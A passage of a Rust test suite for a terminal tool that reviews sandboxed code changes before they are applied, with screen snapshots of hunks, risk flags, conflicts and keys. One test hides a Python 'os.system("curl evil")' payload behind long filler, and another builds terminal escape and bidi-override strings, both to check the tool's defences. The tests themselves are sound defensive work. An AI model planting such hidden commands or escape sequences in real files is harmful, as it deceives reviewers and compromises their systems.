    │                       │  9  9                                                │
    │                       │ 10    - c                                         [ ]│
    │                       │    10 + d                                         [ ]│
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     whitespace-only hunks are hidden and cannot be accepted
    ");
    review.press("a");
    assert_eq!(review.decisions(), ["t - accepted"]);
    assert!(review.screen().contains("1 hidden by this view skipped"), "{}", review.screen());
    review.press("gy");
    assert!(review.screen().contains("hidden by this view"), "{}", review.screen());
    review.press("b");
    review.press("gy");
    assert_eq!(review.decisions(), ["t accepted accepted"]);
    // Hunks in files that are not open are hidden as well.
    let mut review = ReviewFixture::from_files(&[("a", Some("1\n"), Some("2\n")), ("t", Some(old), Some(new))], SIZE);
    review.press("bAy");
    assert_eq!(review.decisions(), ["a accepted", "t - accepted"]);
    assert!(review.screen().contains("1 hidden by this view skipped"), "{}", review.screen());
}

#[test]
fn fold_hides_lines_but_no_finding() {
    let lock = |n: u32| (0..n).map(|n| format!("[[package]] {n}\n")).collect::<String>();
    let (old, new) = (lock(3), lock(40));
    let mut review =
        ReviewFixture::from_files(&[("Cargo.lock", Some(&old), Some(&new)), ("z", None, Some("z\n"))], SIZE);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   2 files +38 −0   0/2 decided   order: risk
    ┌ Files 1/2 ────────────┬ Cargo.lock modified whole file [undecided] ──────────┐
    │▌ ? Cargo.lock      0/1│ ! medium: changes without its Cargo.toml             │
    │    z               0/1│         folded: +37 -0 lines (z unfolds it)          │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    review.press("z");
    assert!(review.screen().contains("[[package]] 3"), "{}", review.screen());
    review.press("zy");
    assert_eq!(review.decisions(), ["Cargo.lock accepted", "z -"]);
    assert!(review.press("w").contains("lines accepted unseen"), "{}", review.screen());
}

#[test]
fn side_by_side_view_shows_both_versions() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("|"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ a.rs modified hunk 1/3 [undecided] ──────────────────────────────────────────┐
    │  1   fn one() {                     │ 1   fn one() {                         ┃
    │▶ 2 -     first(1);                  │ 2 +     first(10);                  [ ]┃
    │▌ 3 -     second(2);                 │ 3 +     second(20);                 [ ]┃
    │  4   }                              │ 4   }                                  ┃
    │  5                                  │ 5                                      ┃
    │  6   fn two() {                     │ 6   fn two() {                         ┃
    │  7       third();                   │ 7       third();                       ┃
    │                                     │ 8 +     fourth();                   [ ]┃
    │  8   }                              │ 9   }                                  ┃
    │  9                                  │10                                      │
    │ 10   fn three() {}                  │11   fn three() {}                      │
    │      ⋯ 2 lines                                                               │
    └──────────────────────────────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    review.press("l<Space>");
    assert_eq!(review.decisions()[1], "a.rs y.y. - -", "a row has both sides");
    review.press("|");
    assert!(review.screen().contains("line of hunk 1/3"));
}

#[test]
fn context_keys_change_line_count() {
    let mut review = open_at_a_rs();
    review.press("-");
    assert!(review.screen().contains("1 lines of context"), "{}", review.screen());
    assert_snapshot!(review.press("-"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 │
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]│
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]│
    │                         │▌    2 +     first(10);                          [ ]│
    │                         │▌    3 +     second(20);                         [ ]│
    │                         │         ⋯ 4 lines   fn two() {                     │
    │                         │     8 +     fourth();                           [ ]│
    │                         │         ⋯ 8 lines   fn three() {}                  │
    │                         │ 16    - end                                     [ ]│
    │                         │    17 + the end                                 [ ]│
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     0 lines of context
    ");
    review.press("+++");
    assert!(review.screen().contains("4 lines of context"));
}

#[test]
fn moved_lines_are_dim() {
    let hunk = "let moved = a_long_line(of, code);\n";
    let (old, new) = (format!("{hunk}a\nb\nc\nd\n"), format!("a\nb\nc\nd\n{hunk}"));
    let mut review =
        ReviewFixture::open(sheet(&[("m.rs", Some(&old), Some(&new))], &[]), ReviewState::default(), SIZE, PLAIN);
    review.press("m");
    let buffer = review.terminal.backend().buffer();
    let row = review.screen().lines().position(|l| l.contains("let moved")).expect("it is shown");
    let dims =
        (0..80).filter(|x| buffer[(*x, u16::try_from(row).expect("small"))].modifier.contains(Modifier::DIM)).count();
    assert!(dims > 30, "{dims}");
    assert!(review.press("m").contains("not dimmed"));
}

#[test]
fn apply_screen_previews_and_confirms() {
    let mut review = open_at_a_rs();
    assert!(review.press("w").contains("nothing is accepted yet"));
    review.press("yn");
    assert_snapshot!(review.press("w"), @"
     airlock review calm-otter   3 files +6 −4   2/5 decided   order: path
    ┌ Preview of the apply to the working tree ────────────────────────────────────┐
    │ 1 file to write (1 apply); 3 files not or only partly applied                │
    │                                                                              │
    │ apply      a.rs                                                              │
    │                                                                              │
    │ Not applied:                                                                 │
    │   .envrc: 1 line undecided                                                   │
    │   a.rs: 2 lines undecided, 1 line rejected                                   │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox is kept. To continue in it: airlock resume calm-otter            │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     y apply  Y apply, stay  Esc back
    ");
    assert!(review.press("<Esc>").contains("hunk 3/3"));
    review.press("wy");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::Abort))));
}

#[test]
fn conflicts_block_plain_apply() {
    let mut review = open_at_a_rs();
    review.host.conflicts = vec!["a.rs".into()];
    review.press("y");
    assert_snapshot!(review.press("w"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Preview of the apply to the working tree ────────────────────────────────────┐
    │ 0 files to write, 1 file in conflict; 3 files not or only partly applied     │
    │                                                                              │
    │ conflict   a.rs  both sides change the same lines                            │
    │       base, line 1                                                           │
    │       │ one                                                                  │
    │                                                                              │
    │ Not applied:                                                                 │
    │   .envrc: 1 line undecided                                                   │
    │   a.rs: 3 lines undecided                                                    │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox is kept. To continue in it: airlock resume calm-otter            │
    └──────────────────────────────────────────────────────────────────────────────┘
     r resolve conflicts  s skip them  m write markers  Esc back
    ");
    assert!(review.press("y").contains("conflicts prevent the apply"));
    review.press("s");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::Skip))));
    review.press("wm");
    assert_eq!(review.effect, Effect::Redraw, "markers ask");
    review.press("y");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::Markers))));
    // Only a merge that git can do is offered.
    let mut review = open_at_a_rs();
    review.host.conflicts = vec!["a.rs".into()];
    assert!(!review.press("yw").contains("git's merge"));
    review.press("M");
    assert_eq!(review.effect, Effect::Redraw);
    review.press("<Esc>");
    review.host.has_git_merge = true;
    assert!(review.press("w").contains("M git's merge"));
    assert!(
        review.press("M").contains("Write git's merge to 1 file, and apply the rest? [y/n]"),
        "{}",
        review.screen()
    );
    review.press("y");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::GitMerge))));
}

#[test]
fn filter_that_matches_nothing_keeps_the_filter_of_conflicts() {
    let mut review = open_at_a_rs();
    review.host.conflicts = vec!["a.rs".into()];
    assert!(review.press("fx").contains("only in conflict: 1"));
    let screen = review.press("fgnothing<Enter>");
    assert!(screen.contains("the filter is unchanged") && screen.contains("only in conflict: 1"), "{screen}");
    assert!(review.press("os").contains("only in conflict: 1"));
}

#[test]
fn rename_to_a_risky_path_shows_all_content() {
    let content: String = (1..=12).map(|n| format!("line {n}\n")).collect();
    let edited = content.replace("line 11\n", "eleven\n");
    let review =
        ReviewFixture::from_files(&[("run.txt", Some(&content), None), (".envrc", None, Some(&content))], SIZE);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   1 file +0 −0   0/1 decided   order: risk
    ┌ Files ──────────────────┬ … .envrc renamed hunk 1/1 [undecided] ! high: dire…┐
    │▌ ! run.txt → .envrc  0/1│ ! high: runs when you enter the directory          ┃
    │                         │ ! high: sets environment variables of commands     ┃
    │                         │▶        renamed from run.txt                    [ ]┃
    │                         │  1  1   line 1                                     ┃
    │                         │  2  2   line 2                                     ┃
    │                         │  3  3   line 3                                     ┃
    │                         │  4  4   line 4                                     ┃
    │                         │  5  5   line 5                                     ┃
    │                         │  6  6   line 6                                     ┃
    │                         │  7  7   line 7                                     │
    │                         │  8  8   line 8                                     │
    │                         │  9  9   line 9                                     │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    let review = ReviewFixture::from_files(&[("run.txt", Some(&content), None), (".envrc", None, Some(&edited))], SIZE);
    let screen = review.screen();
    assert!(screen.contains("line 1 ") && screen.contains("line 8 "), "{screen}");
}

#[test]
fn rename_is_one_entry_until_split() {
    let content: String = (1..=12).map(|n| format!("line {n}\n")).collect();
    let edited = content.replace("line 4\n", "four\n");
    let files: [FileCase<'_>; 2] =
        [("src/app.rs", None, Some(edited.as_str())), ("src/main.rs", Some(content.as_str()), None)];
    let mut review = ReviewFixture::from_files(&files, SIZE);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   1 file +1 −1   0/2 decided   order: risk
    ┌ Files ──────────────────┬ …n.rs → app.rs} renamed 91% hunk 1/2 [undecided] ──┐
    │▌   → src/app.rs      0/2│▶        renamed from src/main.rs                [ ]│
    │                         │  1  1   line 1                                     │
    │                         │  2  2   line 2                                     │
    │                         │  3  3   line 3                                     │
    │                         │  4    - line 4                                  [ ]│
    │                         │     4 + four                                    [ ]│
    │                         │  5  5   line 5                                     │
    │                         │  6  6   line 6                                     │
    │                         │  7  7   line 7                                     │
    │                         │         ⋯ 5 lines                                  │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    review.press("s");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Reopen));
    let state = ReviewState::from_events(review.host.saved_events.clone());
    let separate = open_model(&files, &[], state.separate_renames());
    let mut review = ReviewFixture::open(separate, state, SIZE, PLAIN);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   2 files +12 −12   0/2 decided   order: risk
    ┌ Files 1/2 ────────────┬ src/app.rs added hunk 1/1 [undecided] ───────────────┐
    │▌   src/app.rs      0/1│▶ 1 + line 1                                       [ ]│
    │    src/main.rs     0/1│▌ 2 + line 2                                       [ ]┃
    │                       │▌ 3 + line 3                                       [ ]┃
    │                       │▌ 4 + four                                         [ ]┃
    │                       │▌ 5 + line 5                                       [ ]┃
    │                       │▌ 6 + line 6                                       [ ]┃
    │                       │▌ 7 + line 7                                       [ ]┃
    │                       │▌ 8 + line 8                                       [ ]┃
    │                       │▌ 9 + line 9                                       [ ]┃
    │                       │▌10 + line 10                                      [ ]┃
    │                       │▌11 + line 11                                      [ ]┃
    │                       │▌12 + line 12                                      [ ]┃
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    // At the file, the same key joins them again.
    review.press("hs");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Reopen));
    let state = ReviewState::from_events(review.host.saved_events.clone());
    assert!(state.separate_renames().is_empty());
}

#[test]
fn high_risk_apply_needs_typed_word() {
    let mut review = ReviewFixture::from_files(&sample_files(), SIZE);
    review.press("y");
    assert_snapshot!(review.press("wy"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: risk
    ┌ Preview of the apply to the working tree ────────────────────────────────────┐
    │ 1 file to write (1 apply); 2 files not or only partly applied                │
    │                                                                              │
    │ apply      a.rs                                                              │
    │                                                                              │
    │ Not applied:                                                                 │
    │   a.rs: 7 lines undecided                                                    │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox is kept. To continue in it: airlock resume calm-otter            │
    │                                                                              │
    │                                                                              │
    │ This includes high-risk changes. Type apply to confirm:                      │
    └──────────────────────────────────────────────────────────────────────────────┘
     Enter confirm  Esc back
    ");
    review.press("y<Enter>");
    assert_eq!(review.effect, Effect::Redraw);
    review.press("<Backspace>apply<Enter>");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::Abort))));
}

#[test]
fn quit_keeps_decisions_and_discard_drops_them() {
    let mut review = open_at_a_rs();
    review.press("q");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Quit));
    review.press("<C-c>");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Quit), "the decisions are kept");
    assert!(review.press("Q").contains("Discard all decisions"));
    review.press("x");
    assert_eq!(review.effect, Effect::Redraw, "only yes or no");
    review.press("n");
    assert_eq!(review.effect, Effect::Redraw);
    review.press("Qy");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Discarded));
    review.press("<C-z>");
    assert_eq!(review.effect, Effect::Suspend);
}

#[test]
fn help_filters_by_typed_word() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("?"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Keys ────────────────────────────────────────────────────────────────────────┐
    │ Decide                                                                       │
    │  y             accept, then go to the next undecided hunk                    │
    │  n             reject, then go to the next undecided hunk                    │
    │  Space         toggle: accepted, rejected, undecided                         │
    │  v             start a range of lines                                        │
    │  a d           accept, reject everything undecided in this file              │
    │  A D           accept (except high risk), reject everything undecided; asks  │
    │  u Ctrl-r      undo, redo decisions of this session                          │
    │ Edit and comment                                                             │
    │  s             split the hunk above the line, or a rename; again: join it    │
    │  e             edit the hunk's result in your editor                         │
    │ 43 more below; or type a word to search                                      │
    └──────────────────────────────────────────────────────────────────────────────┘
     type to search  ↓ ↑ scroll  Esc back
    ");
    assert_snapshot!(review.press("undo"), @r#"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Keys with "undo" ────────────────────────────────────────────────────────────┐
    │ Decide                                                                       │
    │  u Ctrl-r      undo, redo decisions of this session                          │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     type to search  ↓ ↑ scroll  Esc back
    "#);
    assert!(review.press("zzz").contains("no matching key"));
    review.press("<Esc>y");
    assert_eq!(review.decisions()[1], "a.rs accepted - -");
}

#[test]
fn mouse_clicks_decide_and_wheel_scrolls() {
    let mut review = open_at_a_rs();
    let list = review.screen().lines().position(|l| l.contains("b/long")).expect("in the list");
    review.click(5, u16::try_from(list).expect("small"));
    assert!(review.screen().contains("b/long name.txt modified hunk"), "{}", review.screen());
    review.press("{");
    // A click on a mark decides that line. A click elsewhere moves the cursor.
    let row = review.screen().lines().position(|l| l.contains("first(10)")).expect("shown");
    review.click(77, u16::try_from(row).expect("small"));
    assert_eq!(review.decisions()[1], "a.rs 2.y. - -");
    review.press("uh");
    review.press("l");
    let row = review.screen().lines().position(|l| l.contains("fourth()")).expect("shown");
    review.click(40, u16::try_from(row).expect("small"));
    assert!(review.screen().contains("hunk 2/3"));
    let before = review.screen();
    let after = review.mouse(MouseEventKind::ScrollDown, 60, 8);
    assert_ne!(before, after);
    assert_eq!(review.decisions()[1], "a.rs - - -", "a wheel decides nothing");
    let cursor = review.screen().lines().any(|line| line.contains("│▶"));
    assert!(cursor, "the cursor is visible:\n{}", review.screen());
}

#[test]
fn mouse_drags_a_range_and_uses_dialogs() {
    let mut review = open_at_a_rs();
    let row_of = |review: &ReviewFixture, text: &str| {
        let row = review.screen().lines().position(|line| line.contains(text)).expect("shown");
        u16::try_from(row).expect("small")
    };
    let (from, to) = (row_of(&review, "second(2)"), row_of(&review, "first(10)"));
    review.click(50, from);
    review.mouse(MouseEventKind::Drag(MouseButton::Left), 50, to);
    assert!(review.screen().contains("range"), "{}", review.screen());
    review.press("y");
    assert_eq!(review.decisions()[1], "a.rs .2y. - -", "the lines between press and release");
    review.press("u<Esc>");
    // A drag within a row, or from outside the rows, is no range.
    review.click(50, from);
    assert!(!review.mouse(MouseEventKind::Drag(MouseButton::Left), 60, from).contains("range"), "{}", review.screen());
    // The wheel moves in a menu, and scrolls the help.
    let menu = review.press("o");
    let moved = review.mouse(MouseEventKind::ScrollDown, 5, 5);
    assert!(moved.contains("by risk") && moved.contains("by path"), "{moved}");
    assert!(!menu.is_empty() && review.press("<Enter>").contains("order: size"), "{}", review.screen());
    let help = review.press("?");
    assert_ne!(review.mouse(MouseEventKind::ScrollDown, 5, 5), help);
    review.press("<Esc>");
    // A click in the list of comments selects, a second one goes there.
    review.press("cone<Enter>]ctwo<Enter>g");
    let list = review.press("C");
    assert!(list.contains("Comments 1/2"), "{list}");
    let second = row_of(&review, "two");
    assert!(review.click(9, second).contains("Comments 2/2"), "{}", review.screen());
    assert!(review.click(9, second).contains("hunk 2/3"), "{}", review.screen());
    assert_eq!(review.decisions()[1], "a.rs - - -");
}

#[test]
fn pasted_text_decides_nothing() {
    let mut review = open_at_a_rs();
    review.app.insert_paste("yyyyAy");
    review.draw();
    assert_eq!(review.decisions()[1], "a.rs - - -");
    assert!(review.screen().contains("paste ignored"));
    review.press("c");
    review.app.insert_paste("two\nlines\u{1b}");
    review.press("<Enter>");
    assert!(review.screen().contains("two lines"), "{}", review.screen());
}

#[test]
fn small_screens_show_one_pane() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.resize(40, 10), @"
     airlock review calm-otter   3 files +6…
    ┌ a.rs modified hunk 1/3 [undecided] ──┐
    │  1   fn one() {                      ┃
    │▶ 2 -     first(1);                [ ]│
    │▌ 3 -     second(2);               [ ]│
    │▌ 2 +     first(10);               [ ]│
    │▌ 3 +     second(20);              [ ]│
    │  4   }                               │
    └──────────────────────────────────────┘
     y accept  n reject  ? all keys
    ");
    assert_snapshot!(review.press("h"), @"
     airlock review calm-otter   3 files +6…
    ┌ Files 2/3 ───────────────────────────┐
    │  ! .envrc                         0/1│
    │▶   a.rs                           0/3│
    │    b/long name.txt                0/1│
    │                                      │
    │                                      │
    │                                      │
    └──────────────────────────────────────┘
     y accept file  ? all keys
    ");
    review.press("l");
    for (columns, rows) in [(20, 6), (10, 3), (1, 1), (200, 60), (73, 7)] {
        review.resize(columns, rows);
        review.press("jk?<Esc>");
    }
}

#[test]
fn long_and_wide_lines_wrap_or_scroll() {
    let long = format!("日本語 and {} the end\n", "x".repeat(200));
    let mut review = ReviewFixture::from_files(&[("w.txt", Some("a\tb\n"), Some(&format!("a\tc\n{long}")))], SIZE);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1   - a       b                                   [ ]│
    │                       │▌  1 + a       c                                   [ ]│
    │                       │▌  2 + 日本語 and xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx [ ]│
    │                       │▌    ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌    ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌    ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌    ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx the    │
    │                       │▌    ~  end                                           │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    assert_snapshot!(review.press("W"), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1   - a       b                                   [ ]│
    │                       │▌  1 + a       c                                   [ ]│
    │                       │▌  2 + 日本語 and xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx› [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     long lines are truncated (> scrolls them)
    ");
    assert_snapshot!(review.press(">>"), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1   -                                             [ ]│
    │                       │▌  1 +                                             [ ]│
    │                       │▌  2 + xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx› [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    review.press(">>>>>>>>>>>>>>>>>>>>>>>>>>");
    assert!(review.screen().contains("the end"), "{}", review.screen());
    review.press("<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<");
    assert!(review.screen().contains("日本語"));
}

#[test]
fn cut_line_counts_as_unseen() {
    let long = format!("return 0  # {}; import os; os.system(\"curl evil\")\n", "x".repeat(160));
    let files = [("w.py", Some("return 0\n"), Some(long.as_str()))];
    let unseen = |keys: &str| {
        let mut review = ReviewFixture::from_files(&files, SIZE);
        review.press(keys);
        review.press("w").contains("accepted unseen")
    };
    assert!(!unseen("y"), "a wrapped line is shown completely");
    // The second of two files is opened after `W`, so its line is cut at the edge from the first draw on.
    let two = [("a.py", Some("1\n"), Some("2\n")), files[0]];
    let cut = |keys: &str| {
        let mut review = ReviewFixture::from_files(&two, SIZE);
        review.press("W");
        review.press("}");
        review.press(keys);
        review.press("w")
    };
    let screen = cut("y");
    assert!(screen.contains("w.py: 1 line accepted unseen"), "{screen}");
    let ends = ">".repeat(30);
    // Scrolling in steps that skip no column shows the whole line.
    let mut review = ReviewFixture::from_files(&two, SIZE);
    for key in ["W", "}"].into_iter().chain(ends.split("").filter(|k| !k.is_empty())) {
        review.press(key);
        review.screen();
    }
    review.press("y");
    let screen = review.press("w");
    assert!(!screen.contains("unseen"), "{screen}");
}

#[test]
fn ascii_style_draws_no_unicode() {
    let look = StyleSheet { unicode: false, ..PLAIN };
    let mut review = ReviewFixture::open(sheet(&sample_files(), &[]), ReviewState::default(), SIZE, look);
    review.press("ny");
    let screen = review.press("n");
    assert!(screen.is_ascii(), "{screen}");
}

#[test]
fn colors_add_no_information() {
    let depths = [ColorDepth::Basic, ColorDepth::Indexed, ColorDepth::True];
    let all = depths.into_iter().flat_map(|d| [Theme::Dark, Theme::Light, Theme::Either].map(|t| (d, t)));
    let plain = {
        let mut review = open_at_a_rs();
        review.press("ynlv")
    };
    for (depth, theme) in all {
        let look = StyleSheet { depth, theme, unicode: true };
        let mut review = ReviewFixture::open(sheet(&sample_files(), &[]), ReviewState::default(), SIZE, look);
        review.press("op]");
        assert_eq!(review.press("ynlv"), plain, "{depth:?}");
        let buffer = review.terminal.backend().buffer();
        assert!(buffer.content.iter().any(|cell| cell.fg != Color::Reset || cell.bg != Color::Reset));
    }
    let mut review = open_at_a_rs();
    review.press("ynlv");
    let buffer = review.terminal.backend().buffer();
    assert!(
        buffer.content.iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset),
        "the style has no colors"
    );
}

#[test]
fn second_round_shows_new_hunks() {
    let sheet = sheet(&sample_files(), &[]);
    let new = [sheet.files[1].units[1].id.clone()].into();
    let since =
        RoundDiff { new, gone: 0, touched: [sheet.files[1].change.path.clone()].into(), ..RoundDiff::default() };
    let mut state = ReviewState::default();
    let accept = |unit| {
        Action::Decide(vec![DecisionTarget { file: 1, unit, lines: None }], Some(airlock::review::Decision::Accepted))
    };
    state = update_state(state, sheet, accept(0));
    let options = ReviewOptions {
        name: "calm-otter".into(),
        styles: PLAIN,
        round_diff: Some(since),
        cannot_send: None,
        start_at: None,
        notice: None,
        commits: Vec::new(),
        keymap: Keymap::default(),
    };
    let mut review = ReviewFixture::open_with(sheet, state, SIZE, options);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   only new since you d…
    ┌ Files ────────────────┬ a.rs modified hunk 2/3 [undecided] new ──────────────┐
    │▌◐  a.rs            1/3│  2    -     first(1);                             [+]┃
    │                       │  3    -     second(2);                            [+]┃
    │                       │     2 +     first(10);                            [+]┃
    │                       │     3 +     second(20);                           [+]┃
    │                       │  4  4   }                                            ┃
    │                       │  5  5                                                ┃
    │                       │  6  6   fn two() {                                   ┃
    │                       │  7  7       third();                                 │
    │                       │▶    8 +     fourth();                             [ ]│
    │                       │  8  9   }                                            │
    │                       │  9 10                                                │
    │                       │ 10 11   fn three() {}                                │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     1 hunk new since you decided, 3 older undecided · f a shows all
    ");
    review.press("y");
    assert!(review.press("w").contains("a.rs: 1 decision kept, but the file changed elsewhere"), "{}", review.screen());
}

#[test]
fn hostile_text_is_escaped_in_every_pane() {
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}\u{9b}31m\r\u{8}";
    let path = format!("d/{}\u{202e}.rs", "\u{1b}[2J");
    let old = format!("{evil}\nsame\n{evil} heading\n\n\n\n\n\n\n\n\nx\n");
    let new = format!("{evil}changed\nsame\n{evil} heading\n\n\n\n\n\n\n\n\ny{}\n", "\u{301}".repeat(500));
    let refused = [UncollectedEntry { path: evil.into(), reason: evil.into() }];
    let mut review =
        ReviewFixture::open(sheet(&[(&path, Some(&old), Some(&new))], &refused), ReviewState::default(), SIZE, PLAIN);
    let hostile = |screen: &str| screen.chars().any(|c| c != '\n' && airlock::core::escape::is_hidden(c));
    review.host.editor_output = Some(format!("{evil}\n").into_bytes());
    review.host.findings = vec![high_finding(evil)];
    review.host.conflicts = vec![path.clone()];
    for keys in [
        "", "l", "j", "|", "|", "h", "h", "l", "y", "u", "e", "p", "<Esc>", "w", "j", "<Esc>", "+", "b", "b", "z", "z",
        "?", "<Esc>",
    ] {
        let screen = review.press(keys);
        assert!(!hostile(&screen), "after {keys}:\n{screen}");
    }
    // Pasted text is escaped as well.
    for keys in ["c", "/", "f"] {
        review.press(keys);
        review.app.insert_paste(evil);
        review.draw();
        assert!(!hostile(&review.screen()), "{}", review.screen());
        review.press("\u{202e}<Enter>");
        assert!(!hostile(&review.screen()), "{}", review.screen());
    }
}

#[test]
fn failed_draft_write_ends_review() {
    let mut review = open_at_a_rs();
    review.host.is_full = true;
    let key =
        crossterm::event::KeyEvent::new(crossterm::event::KeyCode::Char('y'), crossterm::event::KeyModifiers::NONE);
    assert!(review.app.handle_key(key, &mut review.host).is_err());
}

#[test]
fn empty_changeset_handles_every_key() {
    let mut review = ReviewFixture::from_files(&[], SIZE);
    review.press("yn<Space>vadADsecRu/x<Enter>fuos`V<Esc>zb|m+-pwjkhl[]{}gG<PgDn><PgUp>");
    assert_eq!(review.effect, Effect::Redraw);
}

#[test]
fn drawn_lines_are_recorded_as_seen() {
    let long: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let mut review = ReviewFixture::from_files(&[("n.txt", None, Some(&long))], SIZE);
    let seen = |events: &[Event]| {
        let lines = events.iter().filter_map(|event| match event {
            Event::Viewed { lines, .. } => lines.parse::<LineSet>().ok(),
            _ => None,
        });
        lines.fold(LineSet::default(), |all, more| all.union(&more)).len()
    };
    assert_eq!(seen(&review.host.saved_events), 12);
    review.press("y");
    assert_eq!(review.app.state.count_unseen_accepted(&review.model.files[0].units[0]), 88);
    review.press("<PgDn>");
    assert!(seen(&review.host.saved_events) > 20);
    let again = ReviewState::from_events(review.host.saved_events.clone());
    assert_eq!(again.count_unseen_accepted(&review.model.files[0].units[0]), 100 - seen(&review.host.saved_events));
}

/// Presses random keys: none panics, the saved events give the state, and undo returns to the start of the session.
#[test]
fn random_keys_never_panic_and_undo_fully() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, TestRunner};

    const KEYS: [&str; 61] = [
        "y", "y", "n", "n", "<Space>", "<Space>", "v", "a", "d", "A", "D", "s", "s", "e", "E", "c", "R", "u", "u",
        "<C-r>", "/", "<C-n>", "<C-p>", "f", "o", "z", "b", "|", "m", "+", "-", "p", "w", "Q", "?", "h", "l", "l", "j",
        "j", "k", "<Down>", "<Up>", "<Left>", "<Right>", "[", "]", "{", "}", "g", "G", "<PgUp>", "<PgDn>", "<Esc>",
        "<Enter>", "x", "<", ">", "`", "V", "x",
    ];
    let lock = |n: u32| (0..n).map(|n| format!("[[package]] {n}\n")).collect::<String>();
    let (old, new) = (lock(30), lock(50).replace(" 7\n", " 7x\n"));
    let mut all = sample_files();
    all.push(("Cargo.lock", Some(&old), Some(&new)));
    all.push(("refused", None, Some("x\n")));
